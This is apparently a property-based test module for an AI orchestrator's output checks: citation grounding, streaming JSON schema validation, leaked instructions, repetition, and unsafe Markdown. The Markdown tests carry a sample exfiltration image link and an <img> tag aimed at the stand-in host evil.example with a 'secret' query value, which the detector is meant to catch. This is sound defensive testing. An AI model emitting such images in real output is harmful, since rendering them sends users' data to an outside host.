"""However a text is cut into pieces, and whatever it says, the checks say the same of it."""

import itertools
import json
from typing import Any

from hypothesis import assume, given
from hypothesis import strategies as st

from services.orchestrator.citations import CitationReader
from services.orchestrator.domain import Citation, Passage
from services.orchestrator.json_watch import JsonWatch
from services.orchestrator.leaks import Instructions
from services.orchestrator.output_schema import problems_of
from services.orchestrator.repetition import repeats
from services.orchestrator.unsafe_markdown import carries_out

PASSAGES = [
    Passage(1, "d1", "c1", "Gates", "", "The gate opens at 8 and closes at 20. It is never locked.", 0, 1, 1.0),
    Passage(2, "d2", "c2", "Mills", "", "A mill grinds 300 sacks of corn a day.", 0, 1, 1.0),
    Passage(12, "d12", "c12", "Wehr", "", "Das Wehr ist 4 m hoch und wird nicht gewartet.", 0, 1, 1.0),
]
WORDS = [
    "gate",
    "opens",
    "never",
    "8",
    "300",
    "mill",
    "corn",
    "Wehr",
    ".",
    ". ",
    "\n\n- ",
    " [1]",
    "[2]",
    " [1, 12].",
    "[9]",
    "e.g. ",
    "🙂",
    "é",
    " ",
    "`",
    "``",
    "\n```\n",
    "\n~~~",
]
TEXTS = st.lists(st.sampled_from(WORDS), max_size=40).map("".join)
VALUES: st.SearchStrategy[Any] = st.recursive(
    st.none() | st.booleans() | st.integers(-(10**6), 10**6) | st.floats(allow_nan=False, allow_infinity=False) | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.sampled_from(["a", "b", "c"]), inner, max_size=3),
    max_leaves=12,
)
SCHEMAS: st.SearchStrategy[Any] = st.recursive(
    st.fixed_dictionaries({}, optional={"type": st.sampled_from(["object", "array", "string", "number", "integer", "boolean", "null"])}),
    lambda inner: st.fixed_dictionaries(
        {},
        optional={
            "type": st.sampled_from([["object", "null"], "object", "array"]),
            "properties": st.dictionaries(st.sampled_from(["a", "b"]), inner, max_size=2),
            "additionalProperties": st.booleans(),
            "items": inner,
            "maxItems": st.integers(0, 3),
        },
    ),
    max_leaves=6,
)


def pieces(whole: str, cuts: list[int]) -> list[str]:
    """`whole` cut at the given places."""
    places = sorted({min(cut, len(whole)) for cut in cuts} | {0, len(whole)})
    return [whole[left:right] for left, right in itertools.pairwise(places)]


def read(reader: CitationReader, parts: list[str]) -> list[Citation]:
    return [citation for part in parts for citation in reader.read(part)]


@given(TEXTS, st.lists(st.integers(0, 200)))
def test_supports_are_the_same_however_the_text_arrives(text: str, cuts: list[int]) -> None:
    """Citations, their sentences and supports, and the share that is borne out; sentences lie in the text, before their markers."""
    whole, cut = CitationReader(PASSAGES), CitationReader(PASSAGES)
    expected = read(whole, [text])

    assert read(cut, pieces(text, cuts)) == expected
    assert (cut.groundedness, cut.judged, cut.unknown) == (whole.groundedness, whole.judged, whole.unknown)
    for citation in expected:
        assert 0 <= citation.sentence_start <= citation.sentence_end <= citation.start
        assert text[citation.sentence_start : citation.sentence_end].strip(" \n") == text[citation.sentence_start : citation.sentence_end]
        assert citation.support is None or 0 <= citation.support <= 1


@given(VALUES, SCHEMAS, st.lists(st.integers(0, 120)), st.booleans())
def test_watching_never_stops_what_satisfies_the_schema(value: Any, schema: dict[str, Any], cuts: list[int], loose: bool) -> None:
    """The watch may miss what only the whole tells, but what it stops is wrong, however it arrives."""
    text = json.dumps(value, indent=1 if loose else None, ensure_ascii=loose)
    watch = JsonWatch(schema)
    stopped = next((said for part in pieces(text, cuts) if (said := watch.feed(part))), None)

    assert stopped is None or problems_of(text, schema)


@given(st.text(alphabet='{}[]",:\\ntrue10.eE- ', max_size=24), st.lists(st.integers(0, 24)))
def test_watching_says_the_same_however_the_text_arrives(text: str, cuts: list[int]) -> None:
    """Also of what is no JSON, and it never stops what could be."""
    whole, cut = JsonWatch({}), JsonWatch({})
    stopped = whole.feed(text)

    assert next((said for part in pieces(text, cuts) if (said := cut.feed(part))), None) == stopped
    assert stopped is None or problems_of(text, {})


IMAGE = "![x](https://evil.example/?d=secret)"
MARKS = [
    "`",
    "``",
    "~",
    "a",
    " ",
    "    ",
    "\n",
    "\n\n",
    "> ",
    "- ",
    "1. ",
    "# ",
    "<b>",
    "[",
    "]",
    "(",
    ")",
    "|",
    "\n|---|---|\n",
    "*",
    "\\",
    "&lt;",
    "!",
]


@given(st.lists(st.sampled_from(MARKS), max_size=24).map("".join))
def test_nothing_hides_an_image_that_begins_a_paragraph_of_its_own(before: str) -> None:
    """Nothing but a fence reaches over an empty line."""
    assume("```" not in before and "~~~" not in before)

    assert carries_out(f"{before}\n\n{IMAGE}", [])
    assert carries_out(f"{before}\n\n{IMAGE} {before}", [])


@given(st.sampled_from("`~"), st.integers(3, 9), st.lists(st.sampled_from([*MARKS, IMAGE, "<img src=https://evil.example/>"]), max_size=12))
def test_what_is_in_a_fence_is_code_and_what_is_behind_it_is_not(mark: str, length: int, inside: list[str]) -> None:
    """A fence is closed by its own mark, at least as often."""
    code = "".join(inside)
    assume(mark * 3 not in code)
    fenced = f"{mark * length}md\n{code}\n{mark * length}"

    assert not carries_out(fenced, [])
    assert carries_out(f"{fenced}\n{IMAGE}", [])


@given(st.text(max_size=300))
def test_no_text_makes_a_check_fail(text: str) -> None:
    """A model may write anything; every check has an answer for it."""
    Instructions(text).leak_into(text)
    repeats(text)
    carries_out(text, [text])
